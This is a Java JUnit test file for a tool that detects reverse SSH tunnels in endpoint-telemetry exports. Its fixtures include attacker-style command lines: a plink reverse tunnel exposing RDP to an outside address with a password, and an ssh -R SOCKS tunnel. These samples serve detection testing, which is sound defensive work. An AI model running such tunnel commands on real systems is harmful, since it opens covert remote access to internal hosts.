package dev.backflow.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.json.JsonMapper;
import dev.backflow.pipeline.Exports;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

class CommandsTest {
  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();
  @TempDir private Path directory;

  private int run(String... args) {
    CommandLine commandLine = Main.commandLine();
    commandLine.setOut(new PrintWriter(out)).setErr(new PrintWriter(err));
    return commandLine.execute(args);
  }

  private Path file(String name, String text) throws IOException {
    return Files.writeString(directory.resolve(name), text);
  }

  @Test
  void scan_prints_a_case_with_everything_a_person_asks_first_and_exits_1() throws IOException {
    Path file =
        file(
            "a.xml",
            Exports.start(
                1,
                "ws1.example.com",
                "C:\\Users\\jo\\plink.exe",
                "plink.exe  198.51.100.18 -P 80 -C -R 127.0.0.3:4444:127.0.0.2:3389 -l test -pw s3cr3t!"));

    assertThat(run("scan", file.toString())).isEqualTo(1);
    assertThat(out.toString())
        .contains("1 case")
        .contains("RDP of this host (127.0.0.2:3389)")
        .contains("127.0.0.3:4444 -> 127.0.0.2:3389 (RDP)")
        .contains("test at 198.51.100.18:80")
        .contains("EXAMPLE\\jo")
        .contains("= 83, critical")
        .doesNotContain("s3cr3t")
        .doesNotContain("\u001b");
    assertThat(err.toString()).contains("Read 1 records").contains("1 FORWARD");
  }

  @Test
  void scan_writes_a_line_of_json_for_each_case_and_nothing_else() throws IOException {
    file("b.xml", Exports.morning());

    assertThat(run("scan", "--format", "json", directory.toString())).isEqualTo(1);
    List<String> lines = out.toString().lines().toList();
    assertThat(lines).hasSize(6);
    for (String line : lines) {
      JsonNode c = new JsonMapper().readTree(line);
      assertThat(c.path("verdict").asText()).isEqualTo("FORWARD");
      assertThat(c.at("/forwards/0/target_port").asInt()).isEqualTo(3389);
      assertThat(c.at("/forwards/0/unix").isNull()).isTrue();
      assertThat(c.at("/destination/port").asInt()).isEqualTo(22);
      assertThat(c.at("/severity/arithmetic").asText()).contains(" = ");
    }
  }

  @Test
  void scan_names_hosts_and_users_from_falcons_side_tables_wherever_they_lie() throws IOException {
    file(
        "data.ndjson",
        """
        {"event_simpleName":"ProcessRollup2","event_platform":"Win","aid":"a1b2","cid":"c1","id":"e1",\
        "timestamp":"1772438400000","TargetProcessId":"77","RawProcessId":"4711","UserSid":"S-1-5-21-7-7-7-1104",\
        "ImageFileName":"\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32\\\\OpenSSH\\\\ssh.exe",\
        "CommandLine":"ssh -R 1080 u@203.0.113.9"}
        """);
    file(
        "side.ndjson",
        """
        {"aid":"a1b2","ComputerName":"WS-OLD","AgentVersion":"7.1","Time":"1700000000"}
        {"aid":"a1b2","ComputerName":"WS-NEW","AgentVersion":"7.1","Time":"1772000000"}
        {"aid":"ffff","ComputerName":"OTHER","AgentVersion":"7.1","Time":"1772000000"}
        {"UserSid_readable":"S-1-5-21-7-7-7-1104","UserName":"bella","LogonDomain":"EXAMPLE","cid":"c1"}
        """);

    assertThat(run("scan", "--format", "json", directory.toString())).isEqualTo(1);
    JsonNode c = new JsonMapper().readTree(out.toString());
    assertThat(c.at("/host/id").asText()).isEqualTo("a1b2");
    assertThat(c.at("/host/name").asText()).isEqualTo("WS-NEW");
    assertThat(c.at("/user").asText()).isEqualTo("EXAMPLE\\bella");
    assertThat(err.toString()).contains("4 reference rows");
  }

  @Test
  void scan_exits_0_when_nothing_is_found() throws IOException {
    assertThat(run("scan", file("c.xml", Exports.harmless(1, "ws1.example.com")).toString()))
        .isZero();
    assertThat(out.toString()).contains("No reverse SSH tunnel found");
  }

  @Test
  void scan_says_of_an_empty_file_that_it_holds_nothing() throws IOException {
    assertThat(run("scan", file("empty.gz", "").toString())).isZero();
    assertThat(err.toString()).contains("empty.gz holds no records");
  }

  @Test
  void scan_of_a_cut_off_export_prints_what_it_found_and_exits_2() throws IOException {
    Files.write(directory.resolve("cut.gz"), Exports.cutOff(Exports.morning(), 300).readAllBytes());

    assertThat(run("scan", directory.toString())).isEqualTo(2);
    assertThat(out.toString()).contains("RDP of this host");
    assertThat(err.toString()).contains("cut.gz").contains("byte ").contains("truncated");
  }

  @Test
  void scan_names_the_record_it_cannot_read_and_goes_on() throws IOException {
    file(
        "d.xml", "<Event><System></Event>\n" + Exports.tunnel(1, "ws1.example.com", "203.0.113.9"));

    assertThat(run("scan", directory.toString())).isEqualTo(1);
    assertThat(err.toString()).contains("put aside").contains("d.xml record 1 (byte 0)");
  }

  @Test
  void scan_of_a_path_that_is_not_there_says_so_in_a_line() {
    assertThat(run("scan", directory.resolve("nowhere").toString())).isEqualTo(2);
    assertThat(err.toString()).contains("nowhere does not exist").doesNotContain("\tat ");
  }

  @Test
  void an_unknown_command_or_option_exits_2() {
    assertThat(run("scam")).isEqualTo(2);
    assertThat(run("scan", "--format", "xml", ".")).isEqualTo(2);
  }

  @Test
  void the_demo_finds_its_two_tunnels_and_nothing_else() {
    assertThat(run("demo")).isZero();
    assertThat(out.toString())
        .contains("Read 10,000 records")
        .contains("2 cases")
        .containsSubsequence("CRITICAL", "fin03.example.com", "RDP by plink", "renamed plink")
        .containsSubsequence("HIGH", "SOCKS by openssh", "root at 198.51.100.184:443")
        .contains("3 sightings")
        .contains("Subject: [CRITICAL requested] fin03.example.com: RDP reachable through")
        .doesNotContain(MorningExport.PASSWORD)
        .doesNotContain("dev01");
    assertThat(err.toString()).isEmpty();
  }

  @Test
  void the_readme_shows_what_the_demo_prints() throws IOException {
    String readme = Files.readString(Path.of("README.md"));
    int begin = readme.indexOf("```text\n", readme.indexOf("<!-- demo -->")) + "```text\n".length();
    List<String> shown = readme.substring(begin, readme.indexOf("```", begin)).lines().toList();

    run("demo");

    List<String> printed = out.toString().lines().map(String::stripTrailing).toList();
    assertThat(shown).hasSizeGreaterThan(20);
    assertThat(printed.subList(0, shown.size())).isEqualTo(shown);
  }

  @Test
  void the_bundled_morning_is_what_its_generator_writes() throws IOException {
    for (Map.Entry<String, String> file : MorningExport.files().entrySet()) {
      byte[] packed = Files.readAllBytes(MorningExport.DIRECTORY.resolve(file.getKey()));
      String bundled =
          new String(
              new GZIPInputStream(new ByteArrayInputStream(packed)).readAllBytes(),
              StandardCharsets.UTF_8);
      assertThat(bundled.equals(file.getValue())).as(file.getKey()).isTrue();
    }
  }
}
